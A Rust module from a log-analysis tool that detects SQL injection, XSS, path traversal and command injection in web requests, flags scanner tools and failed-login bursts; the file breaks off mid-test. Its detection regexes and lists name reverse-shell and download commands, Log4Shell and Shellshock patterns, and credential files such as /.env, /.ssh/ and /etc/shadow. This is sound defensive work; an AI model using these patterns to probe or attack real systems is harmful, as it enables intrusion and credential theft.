//! Security signals in access logs and authentication logs.
//!
//! Web attacks (`sql_injection`, `xss_attempt`, `path_traversal`, `command_injection`) are detected on the
//! request target (path and query) after percent-decoding (twice, for double encoding; `%uXXXX` too) and `+` →
//! blank, lowercased; the user agent and referrer are checked too (Shellshock and Log4Shell payloads travel
//! there). A keyword automaton decides which categories' expressions run, so ordinary requests cost one scan.
//!
//! `scanner`: a known attack tool's user agent (sqlmap, Nikto, Nmap, masscan, gobuster, WPScan, Nuclei, ...), or a
//! client that probes several well-known sensitive paths (`/.env`, `/.git/config`, `/phpmyadmin`, ...) or
//! collects many 404s over many distinct paths.
//!
//! `auth_failure_burst`: failed logins per client address — sshd (`Failed password`, `Invalid user`, PAM
//! `authentication failure ... rhost=`), application login failures that name an address, and HTTP 401/403 per
//! client — and a successful login from an address that had been failing.

use crate::text::{cut, find_ci, Lit};
use aho_corasick::{AhoCorasick, AhoCorasickKind, MatchKind};
use logsieve_engine::event::FieldRef;
use logsieve_engine::{Event, Evidence, Timestamp};
use regex::RegexSet;
use rustc_hash::FxHashMap;
use std::sync::OnceLock;

/// The per-request attack categories.
pub const SQLI: usize = 0;
pub const XSS: usize = 1;
pub const TRAVERSAL: usize = 2;
pub const CMDI: usize = 3;
pub const ATTACK_KINDS: [&str; 4] = [
    "sql_injection",
    "xss_attempt",
    "path_traversal",
    "command_injection",
];

const SQLI_RE: &[&str] = &[
    r"\bunion(\s|/\*.{0,20}?\*/|\+|\()+((all|distinct)(\s|/\*.{0,20}?\*/|\+|\()+)?select\b",
    r"\b(rlike|regexp)\s*\(\s*select\b|\(\s*select\s|\bcase\s+when\b.{0,60}\bthen\b",
    r#"['"`)]\s*(or|and|xor|\|\||&&)\s*(\(?\s*['"]?\s*[\w@]*\s*['"]?\s*(=|<|>|!=|<>|\blike\b|\bis\b|\bin\b)|\d|true\b|false\b|not\b|\(|sleep|benchmark|exists)"#,
    r#"(^|[^\w])(or|and)\s+['"]?(\d+)['"]?\s*(=|<|>)\s*['"]?\d+"#,
    r#"['`]\s*(--|#|/\*|;)"#,
    r"\b(sleep|pg_sleep|benchmark|randomblob)\s*\(",
    r"\bwaitfor\s+(delay|time)\b",
    r"information_schema|@@version|@@datadir|\bsysobjects\b|\bsyscolumns\b|\bmysql\.user\b|\bxp_cmdshell\b|\bdbms_pipe\b|\butl_http\b|\bpg_catalog\b|\bsqlite_master\b",
    r"\b(extractvalue|updatexml|load_file|group_concat|concat_ws|make_set|elt)\s*\(",
    r"\binto\s+(out|dump)file\b",
    r";\s*(drop|delete|insert|update|truncate|alter|create|exec|execute|shutdown|declare)\s",
    r"\border\s+by\s+\d+\s*(--|#|/\*)",
    r"\bselect\b[^&]{0,80}\bfrom\b[^&]{0,80}(\bwhere\b|--|#|/\*|\blimit\b|\bdual\b)",
    r"\b(char|chr|nchar)\s*\(\s*\d+\s*[,)]",
    r"\bselect\s*(\*|@@|null\b|\d+\s*,|count\s*\(|user\s*\(|version\s*\(|database\s*\()",
];

const XSS_RE: &[&str] = &[
    r"<\s*/?\s*script\b",
    r"\b(java|vb)script\s*:",
    r"\bon(error|load|mouseover|mouseout|focus|blur|click|dblclick|mouseenter|toggle|begin|animationstart|pointerover|unload|submit|change|input|keydown|keyup|wheel|resize|scroll|start|finish)\s*=",
    r"<\s*(img|svg|iframe|body|object|embed|video|audio|details|marquee|math|link|meta|base|form|input|isindex|frameset|frame|style|xss|a\s+href)\b",
    r"\bdocument\s*\.\s*(cookie|domain|location|write)",
    r"\b(alert|prompt|confirm)\s*(\(|`)",
    r"string\s*\.\s*fromcharcode",
    r"\beval\s*\(",
    r"\bdata\s*:\s*text/html",
    r#"['"]\s*>\s*<\s*\w"#,
    r"\bexpression\s*\(",
    r"\bsrcdoc\s*=",
];

const TRAVERSAL_RE: &[&str] = &[
    r"\.\.[/\\]",
    r"[/\\]\.\.(;|$|\x00)",
    r"/etc/(passwd|shadow|hosts|group|issue|motd|crontab|master\.passwd)",
    r"\b(win|boot|system)\.ini\b",
    r"c:[/\\]+windows|[/\\]system32[/\\]",
    r"/proc/self/(environ|cmdline|fd|maps|status)",
    r"web-inf[/\\]web\.xml",
    r"(^|[=?&])\s*file:/{2,3}",
    r"\x00",
];

/// The first expression (a shell separator then a command) is not used on user agents, where `; id)` is a
/// locale (`Opera Mini/2.1; U; id`), not a command.
const CMDI_RE: &[&str] = &[
    r"(;|\||&&|\|\||`|\$\(|\n)\s*(cat|ls|id|whoami|uname|wget|curl|nc|ncat|netcat|bash|sh|zsh|ping|nslookup|dig|powershell|cmd|python3?|perl|php|ruby|echo|rm|chmod|busybox|tftp|telnet|sleep|ifconfig|ipconfig|systeminfo|pwd|env|printenv|uname)\b",
    r"\$\{\s*jndi\s*:",
    r"\$\{(env|sys|lower|upper|date|::-|main|ctx|k8s|docker|java|base64)[:}]",
    r"\(\)\s*\{\s*:?\s*;?\s*\}\s*;",
    r"/bin/(sh|bash|busybox|zsh|dash)\b",
    r"\bcmd(\.exe)?\s*/[ck]\b",
    r"\bpowershell(\.exe)?\b",
    r"\b(wget|curl)\s+(-\S+\s+)*(https?|ftp)://",
    r"\b(system|passthru|shell_exec|popen|proc_open|pcntl_exec)\s*\(",
    r"\bexec\s*\(\s*['\x22$]",
];

/// Keywords that make a category worth checking (on decoded, lowercased text), with the categories' bits.
const GATE: &[(&str, u8)] = &[
    ("union", 1),
    ("select", 1),
    ("sleep", 1 | 8),
    ("benchmark", 1),
    ("waitfor", 1),
    ("information_schema", 1),
    ("@@", 1),
    ("extractvalue", 1),
    ("updatexml", 1),
    ("load_file", 1),
    ("outfile", 1),
    ("dumpfile", 1),
    ("concat", 1),
    ("char(", 1),
    ("chr(", 1),
    ("'", 1 | 2 | 8),
    ("\"", 1 | 2 | 8),
    ("`", 1 | 8),
    ("--", 1),
    ("/*", 1),
    ("#", 1),
    (";", 1 | 8),
    (" or ", 1),
    (" and ", 1),
    (")or", 1),
    (")and", 1),
    ("xp_cmdshell", 1),
    ("sysobjects", 1),
    ("dbms_", 1),
    ("utl_http", 1),
    ("order by", 1),
    ("pg_catalog", 1),
    ("sqlite_master", 1),
    ("<", 2),
    (">", 2),
    ("script", 2),
    ("javascript", 2),
    ("vbscript", 2),
    ("onerror", 2),
    ("onload", 2),
    ("onmouse", 2),
    ("onfocus", 2),
    ("alert", 2),
    ("prompt", 2),
    ("confirm", 2),
    ("document.", 2),
    ("fromcharcode", 2),
    ("eval(", 2),
    ("data:", 2),
    ("expression(", 2),
    ("srcdoc", 2),
    ("..", 4),
    ("/etc/", 4),
    (".ini", 4),
    ("system32", 4),
    ("windows", 4),
    ("/proc/", 4),
    ("web-inf", 4),
    ("file:", 4),
    ("\0", 4),
    ("|", 8),
    ("$(", 8),
    ("${", 8),
    ("&&", 8),
    ("/bin/", 8),
    ("cmd", 8),
    ("powershell", 8),
    ("wget", 8),
    ("curl", 8),
    ("() {", 8),
    ("(){", 8),
    ("\n", 8),
    ("system(", 8),
    ("passthru", 8),
    ("shell_exec", 8),
    ("popen", 8),
    ("proc_open", 8),
    ("exec(", 8),
    ("exec (", 8),
];

/// Known attack tools' user agents (lowercase).
const SCANNER_UA: &[&str] = &[
    "sqlmap",
    "nikto",
    "nmap",
    "masscan",
    "zgrab",
    "gobuster",
    "dirbuster",
    "dirb/",
    "wpscan",
    "nuclei",
    "acunetix",
    "nessus",
    "openvas",
    "w3af",
    "ffuf",
    "fuzz faster u fool",
    "feroxbuster",
    "wfuzz",
    "hydra",
    "arachni",
    "skipfish",
    "joomscan",
    "whatweb",
    "netsparker",
    "appscan",
    "commix",
    "xsser",
    "jaeles",
    "zmeu",
    "morfeus",
    "havij",
    "fimap",
    "dotdotpwn",
    "webinspect",
    "burpsuite",
    "burp collaborator",
    "zaproxy",
    "owasp zap",
    "paros",
    "wapiti",
    "zmap",
    "grabber",
    "webshag",
    "bsqlbf",
    "pangolin",
    "l9explore",
    "l9tcpid",
    "censysinspect",
    "netsystemsresearch",
    "project25499",
    "nimbostratus",
    "httpx - open-source",
    "interactsh",
    "sqlninja",
    "brutus",
    "medusa/",
];

/// Well-known sensitive paths that scanners probe (lowercase, matched in the decoded path).
const PROBES: &[&str] = &[
    "/.env",
    "/.git/",
    "/.git",
    "/.svn/",
    "/.hg/",
    "/.aws/",
    "/.ssh/",
    "/.ds_store",
    "/.htpasswd",
    "/.htaccess",
    "/wp-login.php",
    "/xmlrpc.php",
    "/wp-config",
    "/phpmyadmin",
    "/pma/",
    "/myadmin",
    "/mysqladmin",
    "/adminer",
    "/manager/html",
    "/server-status",
    "/actuator",
    "/cgi-bin/",
    "/boaform",
    "/hnap1",
    "/vendor/phpunit",
    "/phpunit/",
    "/shell.php",
    "/cmd.php",
    "/config.php",
    "/web.config",
    "/solr/admin",
    "/jmx-console",
    "/invoker/",
    "/console/login",
    "/phpinfo",
    "/setup.php",
    "/install.php",
    "/owa/auth",
    "/autodiscover",
    "/remote/login",
    "/api/jsonws",
    "/druid/index",
    "/nacos/",
    "/_ignition",
    "/telescope",
    "/debug/default",
    "/.vscode/",
    "/sftp-config.json",
    "/id_rsa",
    "/backup.sql",
    "/dump.sql",
    "/database.sql",
    "/db.sql",
    "/.bash_history",
    "/etc/passwd",
    "/wls-wsat",
    "/_async/",
    "/struts2",
    "/jenkins/script",
    "/admin/config",
    "/webdav",
    "/.well-known/../",
    "/config.json",
    "/credentials",
    "/aws.yml",
    "/docker-compose",
    "/.npmrc",
    "/.dockercfg",
    "/server-info",
    "/elmah.axd",
    "/trace.axd",
    "/wp-admin/install",
    "/wp-includes/",
];

#[derive(Debug, Default)]
pub(crate) struct Span {
    pub first: Option<(i64, Timestamp)>,
    pub last: Option<(i64, Timestamp)>,
}

impl Span {
    pub fn add(&mut self, ts: Option<&Timestamp>) {
        let Some(t) = ts else { return };
        let ms = t.unix_millis();
        if self.first.as_ref().is_none_or(|(m, _)| ms < *m) {
            self.first = Some((ms, *t));
        }
        if self.last.as_ref().is_none_or(|(m, _)| ms > *m) {
            self.last = Some((ms, *t));
        }
    }
    pub fn first_rfc(&self) -> Option<String> {
        self.first.as_ref().map(|(_, t)| t.to_rfc3339())
    }
    pub fn last_rfc(&self) -> Option<String> {
        self.last.as_ref().map(|(_, t)| t.to_rfc3339())
    }
}

/// Requests of one attack category (or tool user agents).
#[derive(Debug, Default)]
pub(crate) struct AttackAcc {
    pub ev: Evidence,
    pub span: Span,
    pub ips: FxHashMap<String, (u64, u64)>,
    /// Answered with 2xx.
    pub ok: u64,
    /// Decoded payload samples (raw: redact before showing).
    pub samples: Vec<String>,
    pub excerpt_lines: Vec<(u64, String)>,
    /// Tools seen (scanner user agents).
    pub tools: Vec<(String, u64)>,
}

impl AttackAcc {
    #[allow(clippy::too_many_arguments)]
    fn add(
        &mut self,
        line: u64,
        ts: Option<&Timestamp>,
        ip: &str,
        status: i64,
        sample: &str,
        excerpt: &str,
        red: &crate::Redactor,
    ) {
        self.ev.push(line);
        self.span.add(ts);
        let ok = (200..300).contains(&status);
        if ok {
            self.ok += 1;
        }
        let n = self.ips.len();
        match self.ips.get_mut(ip) {
            Some(e) => {
                e.0 += 1;
                e.1 += ok as u64;
            }
            None if n < 10_000 => {
                self.ips.insert(ip.to_string(), (1, ok as u64));
            }
            None => {}
        }
        if self.samples.len() < 3 && !sample.is_empty() && !self.samples.iter().any(|s| s == sample)
        {
            self.samples.push(cut(sample, 160).to_string());
        }
        if self.excerpt_lines.len() < 3 {
            self.excerpt_lines.push((line, red.excerpt(excerpt)));
        }
    }

    /// Offending addresses, most requests first.
    pub fn top_ips(&self, n: usize) -> Vec<(String, u64, u64)> {
        let mut v: Vec<(String, u64, u64)> = self
            .ips
            .iter()
            .map(|(k, (c, o))| (k.clone(), *c, *o))
            .collect();
        v.sort_by(|a, b| b.1.cmp(&a.1).then(a.0.cmp(&b.0)));
        v.truncate(n);
        v
    }
}

#[derive(Debug, Default, Clone)]
pub(crate) struct Client {
    pub requests: u64,
    pub s404: u64,
    pub paths404: Vec<u64>,
    pub probes: Vec<u16>,
    pub lines: Vec<u64>,
    pub first: Option<(i64, Timestamp)>,
    pub last: Option<(i64, Timestamp)>,
}

/// Failed logins of one client address.
#[derive(Debug, Default, Clone)]
pub(crate) struct AuthIp {
    pub fails: u64,
    pub http: u64,
    pub users: Vec<String>,
    pub first: Option<(i64, Timestamp)>,
    pub last: Option<(i64, Timestamp)>,
    pub lines: Vec<u64>,
}

/// A success after failures: (line, address, user, failures before).
pub(crate) type Breach = (u64, String, String, u64);

/// Per-request web attack detector (stateless).
pub struct WebDetector {
    gate: AhoCorasick,
    gate_bits: Vec<u8>,
    /// Compiled on first use (most logs have no requests that need them). The fifth is the command-injection set
    /// without its first expression, for user agents.
    sets: [OnceLock<RegexSet>; 5],
    scanner: AhoCorasick,
    probes: AhoCorasick,
}

impl Default for WebDetector {
    fn default() -> Self {
        WebDetector::new()
    }
}

/// What one request looks like.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct RequestVerdict {
    /// Attack categories found, as indices into [`ATTACK_KINDS`].
    pub attacks: Vec<usize>,
    /// A known attack tool's name from the user agent.
    pub tool: Option<&'static str>,
    /// Index of a sensitive path probed.
    pub probe: Option<u16>,
    /// The decoded target (for samples).
    pub decoded: String,
}

impl WebDetector {
    pub fn new() -> WebDetector {
        let gate = AhoCorasick::builder()
            .match_kind(MatchKind::Standard)
            .kind(Some(AhoCorasickKind::DFA))
            .build(GATE.iter().map(|g| g.0))
            .expect("gate automaton");
        let gate_bits = GATE.iter().map(|g| g.1).collect();
        let sets = [
            OnceLock::new(),
            OnceLock::new(),
            OnceLock::new(),
            OnceLock::new(),
            OnceLock::new(),
        ];
        let scanner = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .build(SCANNER_UA)
            .expect("scanner automaton");
        let probes = AhoCorasick::builder()
            .ascii_case_insensitive(true)
            .match_kind(MatchKind::LeftmostLongest)
            .build(PROBES)
            .expect("probe automaton");
        WebDetector {
            gate,
            gate_bits,
            sets,
            scanner,
            probes,
        }
    }

    fn categories(&self, text: &str, allowed: u8, ua: bool) -> u8 {
        let mut bits = 0u8;
        for m in self.gate.find_overlapping_iter(text) {
            bits |= self.gate_bits[m.pattern().as_usize()];
            if bits & allowed == allowed {
                break;
            }
        }
        let mut found = 0u8;
        for i in 0..4 {
            let bit = 1u8 << i;
            if bits & bit & allowed != 0 {
                let si = if ua && i == CMDI { 4 } else { i };
                let set = self.sets[si].get_or_init(|| {
                    let src: &[&str] = match si {
                        0 => SQLI_RE,
                        1 => XSS_RE,
                        2 => TRAVERSAL_RE,
                        3 => CMDI_RE,
                        _ => &CMDI_RE[1..],
                    };
                    RegexSet::new(src).expect("attack regexes")
                });
                if set.is_match(text) {
                    found |= bit;
                }
            }
        }
        found
    }

    /// Classifies one request from its target (path and query, raw), user agent and referrer.
    pub fn classify(
        &self,
        path: &str,
        query: Option<&str>,
        ua: Option<&str>,
        referrer: Option<&str>,
    ) -> RequestVerdict {
        let mut v = RequestVerdict::default();
        let mut decoded = decode(path, false);
        if let Some(q) = query {
            decoded.push('?');
            decoded.push_str(&decode(q, true));
        }
        let mut bits = self.categories(&decoded, 0b1111, false);
        if let Some(u) = ua {
            let lu = decode(u, false);
            bits |= self.categories(&lu, 0b1011, true);
            if let Some(m) = self.scanner.find(u) {
                v.tool = Some(SCANNER_UA[m.pattern().as_usize()]);
            }
        }
        if let Some(r) = referrer {
            // Only the referrer's query: its path is another site's business.
            if let Some(q) = r.split_once('?').map(|x| x.1) {
                let lr = decode(q, true);
                bits |= self.categories(&lr, 0b1011, false);
            }
        }
        for i in 0..4 {
            if bits & (1 << i) != 0 {
                v.attacks.push(i);
            }
        }
        let dpath = decode(path, false);
        if let Some(m) = self.probes.find(&dpath) {
            v.probe = Some(m.pattern().as_usize() as u16);
        }
        v.decoded = decoded;
        v
    }

    /// Classifies an access-log event (`None` for other events).
    pub fn classify_event(&self, ev: &Event<'_>) -> Option<RequestVerdict> {
        let r = Request::of(ev)?;
        Some(self.classify(r.path, r.query, r.ua, r.referrer))
    }
}

/// The fields of an access-log event.
pub(crate) struct Request<'a> {
    pub ip: &'a str,
    pub path: &'a str,
    pub query: Option<&'a str>,
    pub status: i64,
    pub ua: Option<&'a str>,
    pub referrer: Option<&'a str>,
}

impl<'a> Request<'a> {
    pub fn of(ev: &Event<'a>) -> Option<Request<'a>> {
        let mut r = Request {
            ip: "",
            path: "",
            query: None,
            status: 0,
            ua: None,
            referrer: None,
        };
        let mut any = false;
        for (k, v) in ev.fields() {
            match (k, v) {
                ("client_ip", FieldRef::Text(t)) => r.ip = t,
                ("path", FieldRef::Text(t)) => {
                    r.path = t;
                    any = true;
                }
                ("query", FieldRef::Text(t)) => r.query = Some(t),
                ("status", FieldRef::Int(i)) => r.status = i,
                ("user_agent", FieldRef::Text(t)) => r.ua = Some(t),
                ("referrer", FieldRef::Text(t)) => r.referrer = Some(t),
                _ => {}
            }
        }
        if any || r.status != 0 {
            Some(r)
        } else {
            None
        }
    }
}

fn hexval(c: u8) -> Option<u8> {
    match c {
        b'0'..=b'9' => Some(c - b'0'),
        b'a'..=b'f' => Some(c - b'a' + 10),
        b'A'..=b'F' => Some(c - b'A' + 10),
        _ => None,
    }
}

fn decode_once(s: &[u8], plus: bool) -> (Vec<u8>, bool) {
    let mut out = Vec::with_capacity(s.len());
    let mut changed = false;
    let mut i = 0;
    while i < s.len() {
        let c = s[i];
        if c == b'%' {
            if i + 2 < s.len() {
                if let (Some(h), Some(l)) = (hexval(s[i + 1]), hexval(s[i + 2])) {
                    out.push(h * 16 + l);
                    i += 3;
                    changed = true;
                    continue;
                }
            }
            // IIS-style %uXXXX.
            if i + 5 < s.len() && (s[i + 1] == b'u' || s[i + 1] == b'U') {
                let hs: Option<Vec<u8>> = s[i + 2..i + 6].iter().map(|c| hexval(*c)).collect();
                if let Some(h) = hs {
                    let cp = ((h[0] as u32) << 12)
                        | ((h[1] as u32) << 8)
                        | ((h[2] as u32) << 4)
                        | h[3] as u32;
                    if let Some(ch) = char::from_u32(cp) {
                        let mut buf = [0u8; 4];
                        out.extend_from_slice(ch.encode_utf8(&mut buf).as_bytes());
                        i += 6;
                        changed = true;
                        continue;
                    }
                }
            }
        } else if c == b'+' && plus {
            out.push(b' ');
            i += 1;
            changed = true;
            continue;
        } else if c == b'\\' && i + 3 < s.len() && s[i + 1] == b'x' {
            // `\x3c` escapes as nginx writes non-printable bytes.
            if let (Some(h), Some(l)) = (hexval(s[i + 2]), hexval(s[i + 3])) {
                out.push(h * 16 + l);
                i += 4;
                changed = true;
                continue;
            }
        }
        out.push(c);
        i += 1;
    }
    (out, changed)
}

/// Overlong UTF-8 encodings of `/`, `.` and `\` (`%c0%af`, `%c0%ae`, `%c1%9c`, `%e0%80%af`), as servers that
/// decoded them leniently saw them.
fn overlong(v: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(v.len());
    let mut i = 0;
    while i < v.len() {
        match (v[i], v.get(i + 1), v.get(i + 2)) {
            (0xc0, Some(0xaf), _) => {
                out.push(b'/');
                i += 2;
            }
            (0xc0, Some(0xae), _) => {
                out.push(b'.');
                i += 2;
            }
            (0xc1, Some(0x9c), _) => {
                out.push(b'\\');
                i += 2;
            }
            (0xe0, Some(0x80), Some(0xaf)) => {
                out.push(b'/');
                i += 3;
            }
            (c, _, _) => {
                out.push(c);
                i += 1;
            }
        }
    }
    out
}

/// Percent-decodes (twice), lowercases, and decodes the common HTML entities for `<`, `>`, quotes.
pub fn decode(s: &str, plus: bool) -> String {
    let b = s.as_bytes();
    let needs = b.iter().any(|c| matches!(c, b'%' | b'+' | b'\\' | b'&'))
        || b.iter().any(|c| c.is_ascii_uppercase());
    if !needs {
        return s.to_string();
    }
    let (mut v, changed) = decode_once(b, plus);
    if changed && v.contains(&b'%') {
        v = decode_once(&v, false).0;
    }
    if v.iter().any(|c| *c == 0xc0 || *c == 0xc1 || *c == 0xe0) {
        v = overlong(&v);
    }
    let mut s = String::from_utf8_lossy(&v).to_ascii_lowercase();
    if s.contains('&') {
        for (ent, rep) in [
            ("&lt;", "<"),
            ("&gt;", ">"),
            ("&quot;", "\""),
            ("&#39;", "'"),
            ("&#x27;", "'"),
            ("&#60;", "<"),
            ("&#x3c;", "<"),
            ("&#62;", ">"),
            ("&#x3e;", ">"),
        ] {
            if s.contains(ent) {
                s = s.replace(ent, rep);
            }
        }
    }
    s
}

/// Everything security-related the analyzer accumulates.
pub(crate) struct SecurityAcc {
    pub web: WebDetector,
    pub attacks: [AttackAcc; 4],
    pub tools: AttackAcc,
    pub clients: FxHashMap<String, Client>,
    pub auth: FxHashMap<String, AuthIp>,
    pub auth_total: u64,
    pub auth_ev: Evidence,
    pub auth_span: Span,
    pub auth_excerpts: Vec<(u64, String)>,
    pub breaches: Vec<Breach>,
    pub access_events: u64,
}

impl SecurityAcc {
    pub fn new() -> SecurityAcc {
        SecurityAcc {
            web: WebDetector::new(),
            attacks: Default::default(),
            tools: AttackAcc::default(),
            clients: FxHashMap::default(),
            auth: FxHashMap::default(),
            auth_total: 0,
            auth_ev: Evidence::default(),
            auth_span: Span::default(),
            auth_excerpts: Vec::new(),
            breaches: Vec::new(),
            access_events: 0,
        }
    }

    /// An access-log request.
    pub fn request(&mut self, ev: &Event<'_>, r: &Request<'_>, red: &crate::Redactor) {
        self.access_events += 1;
        let ts = ev.ts();
        let line = ev.line;
        let verdict = self.web.classify(r.path, r.query, r.ua, r.referrer);
        let first_line = crate::text::first_line(ev.text);
        for &a in &verdict.attacks {
            self.attacks[a].add(line, ts, r.ip, r.status, &verdict.decoded, first_line, red);
        }
        if let Some(tool) = verdict.tool {
            self.tools
                .add(line, ts, r.ip, r.status, "", first_line, red);
            match self.tools.tools.iter_mut().find(|t| t.0 == tool) {
                Some(t) => t.1 += 1,
                None => self.tools.tools.push((tool.to_string(), 1)),
            }
        }
        // Per client: requests, 404s over distinct paths, probes.
        if !self.clients.contains_key(r.ip) {
            if self.clients.len() >= 200_000 {
                return;
            }
            self.clients.insert(r.ip.to_string(), Client::default());
        }
        let c = self.clients.get_mut(r.ip).expect("inserted");
        c.requests += 1;
        if let Some(t) = ts {
            let ms = t.unix_millis();
            if c.first.as_ref().is_none_or(|(m, _)| ms < *m) {
                c.first = Some((ms, *t));
            }
            if c.last.as_ref().is_none_or(|(m, _)| ms > *m) {
                c.last = Some((ms, *t));
            }
        }
        let interesting = r.status == 404 || verdict.probe.is_some();
        if r.status == 404 {
            c.s404 += 1;
            let h = crate::text::shape_hash(r.path);
            if c.paths404.len() < 32 && !c.paths404.contains(&h) {
                c.paths404.push(h);
            }
        }
        if let Some(p) = verdict.probe {
            if c.probes.len() < 16 && !c.probes.contains(&p) {
                c.probes.push(p);
            }
        }
        if interesting && c.lines.len() < 8 {
            c.lines.push(line);
        }
        if r.status == 401 || r.status == 403 {
            let ex = if self.auth_excerpts.len() < 3 {
                Some(red.excerpt(first_line))
            } else {
                None
            };
            self.auth_failure(r.ip, &|| None, line, ts, ex, true);
        }
    }

    /// A failed login from `ip` (or an unknown address). `user` is only asked for while the address has fewer
    /// than eight users listed; `excerpt`: the redacted excerpt of the line, while fewer than three are kept.
    pub fn auth_failure(
        &mut self,
        ip: &str,
        user: &dyn Fn() -> Option<String>,
        line: u64,
        ts: Option<&Timestamp>,
        excerpt: Option<String>,
        http: bool,
    ) {
        self.auth_total += 1;
        self.auth_ev.push(line);
        self.auth_span.add(ts);
        if let Some(x) = excerpt {
            if self.auth_excerpts.len() < 3 {
                self.auth_excerpts.push((line, x));
            }
        }
        if !self.auth.contains_key(ip) {
            if self.auth.len() >= 100_000 {
                return;
            }
            self.auth.insert(ip.to_string(), AuthIp::default());
        }
        let a = self.auth.get_mut(ip).expect("inserted");
        a.fails += 1;
        a.http += http as u64;
        if a.users.len() < 8 {
            if let Some(u) = user() {
                if !a.users.contains(&u) {
                    a.users.push(cut(&u, 64).to_string());
                }
            }
        }
        if let Some(t) = ts {
            let ms = t.unix_millis();
            if a.first.as_ref().is_none_or(|(m, _)| ms < *m) {
                a.first = Some((ms, *t));
            }
            if a.last.as_ref().is_none_or(|(m, _)| ms > *m) {
                a.last = Some((ms, *t));
            }
        }
        if a.lines.len() < 4 {
            a.lines.push(line);
        }
    }

    /// A successful login from `ip`.
    pub fn auth_success(&mut self, ip: &str, user: &str, line: u64) {
        if let Some(a) = self.auth.get(ip) {
            if a.fails >= 5 && self.breaches.len() < 20 {
                self.breaches
                    .push((line, ip.to_string(), cut(user, 64).to_string(), a.fails));
            }
        }
    }
}

/// Reads an authentication message: `Some((failed, ip, user))` when it is a login failure or success.
pub fn auth_event(msg: &str) -> Option<(bool, &str, Option<&str>)> {
    let m = crate::text::first_line(msg);
    let has = |s: &str| find_ci(m, s).is_some();
    let success = has("accepted password for")
        || has("accepted publickey for")
        || has("accepted keyboard-interactive");
    let failure = !success
        && (has("failed password")
            || has("failed publickey")
            || has("failed none for")
            || has("authentication failure")
            || has("authentication failed")
            || has("invalid user")
            || has("authenticating user")
            || has("maximum authentication attempts")
            || has("too many authentication failures")
            || has("login failed")
            || has("failed login")
            || has("badcredentialsexception")
            || has("bad credentials")
            || has("invalid credentials")
            || has("incorrect password")
            || has("wrong password")
            || has("invalid password")
            || has("possible break-in attempt"));
    if !success && !failure {
        return None;
    }
    Some(auth_parts(m, failure))
}

/// The address and user of an authentication message already known to be a failure (or a success).
pub fn auth_parts(msg: &str, failed: bool) -> (bool, &str, Option<&str>) {
    let m = crate::text::first_line(msg);
    let ip = ip_in(m).unwrap_or("unknown");
    let user = user_in(m);
    (failed, ip, user)
}

/// The user named in an authentication message.
pub fn auth_user(msg: &str) -> Option<&str> {
    user_in(crate::text::first_line(msg))
}

fn take_token(s: &str) -> &str {
    let end = s
        .find(|c: char| {
            c.is_whitespace()
                || c == ','
                || c == ';'
                || c == ')'
                || c == ']'
                || c == '"'
                || c == '\''
        })
        .unwrap_or(s.len());
    &s[..end]
}

/// The longest token read as a client address (a host name is at most 253 bytes; a port or `::ffff:` prefix may
/// come with it).
const MAX_ADDR: usize = 300;

/// [`take_token`], or `None` when the token is longer than `max` bytes (without reading past `max + 1` bytes).
fn take_short_token(s: &str, max: usize) -> Option<&str> {
    if s.len() <= max {
        return Some(take_token(s));
    }
    let mut end = max + 1;
    while !s.is_char_boundary(end) {
        end += 1;
    }
    let t = take_token(&s[..end]);
    // Shorter than the cut: the whole token.
    (t.len() < end && t.len() <= max).then_some(t)
}

fn plausible_addr(t: &str) -> bool {
    let t = t.trim_end_matches('.');
    t.len() >= 3
        && (t.bytes().filter(|c| *c == b'.').count() == 3
            && t.bytes().all(|c| c.is_ascii_digit() || c == b'.')
            || (t.contains(':') && t.bytes().all(|c| c.is_ascii_hexdigit() || c == b':'))
            || (t.contains('.')
                && t.bytes()
                    .all(|c| c.is_ascii_alphanumeric() || c == b'.' || c == b'-')))
}

const IP_MARKERS: [Lit; 11] = [
    Lit::new(" from "),
    Lit::new("rhost="),
    Lit::new("client: "),
    Lit::new("[client "),
    Lit::new("ip="),
    Lit::new("IP="),
    Lit::new("ip: "),
    Lit::new("IP: "),
    Lit::new("remote_addr="),
    Lit::new("clientip="),
    Lit::new("addr="),
];

/// The client address named in an authentication message.
pub fn ip_in(m: &str) -> Option<&str> {
    let mb = m.as_bytes();
    for mk in &IP_MARKERS {
        let mut from = 0;
        while let Some(p) = mk.find(&mb[from..]) {
            let p = from + p;
            // An address or host name is short; reading a longer token to its end for every marker in it (`ip=ip=…`)
            // would cost a pass over the token per marker.
            let Some(t) = take_short_token(&m[p + mk.len()..], MAX_ADDR) else {
                // Markers further into the same token start tokens that are too long too, until the last
                // `MAX_ADDR` bytes of it (a marker holding a blank cannot be inside a token): go there.
                let end = p + mk.len() + take_token(&m[p + mk.len()..]).len();
                from = (p + mk.len()).max(end.saturating_sub(MAX_ADDR + mk.len()));
                continue;
            };
            let t = t.split_once("::ffff:").map(|x| x.1).unwrap_or(t);
            // `1.2.3.4:5678` → the address.
            let t = if t.matches(':').count() == 1 {
                t.split(':').next().unwrap_or(t)
            } else {
                t
            };
            if plausible_addr(t) {
                return Some(t.trim_end_matches('.'));
            }
            from = p + mk.len();
        }
    }
    // Any IPv4 address.
    let b = mb;
    let mut i = 0;
    while i < b.len() {
        if b[i].is_ascii_digit()
            && (i == 0 || !(b[i - 1].is_ascii_alphanumeric() || b[i - 1] == b'.'))
        {
            let t = take_token(&m[i..]);
            let t = t.split(':').next().unwrap_or(t);
            if t.bytes().filter(|c| *c == b'.').count() == 3
                && t.split('.').all(|o| {
                    !o.is_empty() && o.len() <= 3 && o.parse::<u16>().is_ok_and(|v| v < 256)
                })
            {
                return Some(t);
            }
            i += t.len().max(1);
            continue;
        }
        i += 1;
    }
    None
}

const USER_MARKERS: [Lit; 9] = [
    Lit::new("invalid user "),
    Lit::new("Invalid user "),
    Lit::new("password for "),
    Lit::new("publickey for "),
    Lit::new(" for user "),
    Lit::new(" user="),
    Lit::new("user '"),
    Lit::new("user \""),
    Lit::new(" user "),
];

fn user_in(m: &str) -> Option<&str> {
    for mk in &USER_MARKERS {
        if let Some(p) = mk.find(m.as_bytes()) {
            let t = take_token(&m[p + mk.len()..]);
            let t = t.trim_matches(|c| c == '\'' || c == '"');
            if !t.is_empty() && t != "from" && t != "invalid" && !t.contains('=') {
                return Some(t);
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn address_after_a_long_token() {
        let long = "ip=".repeat(1000);
        assert_eq!(
            ip_in(&format!(
                "Failed password for root from {long}10.0.0.9 port 22"
            )),
            Some("10.0.0.9")
        );
        let host = "h".repeat(400);
        assert_eq!(
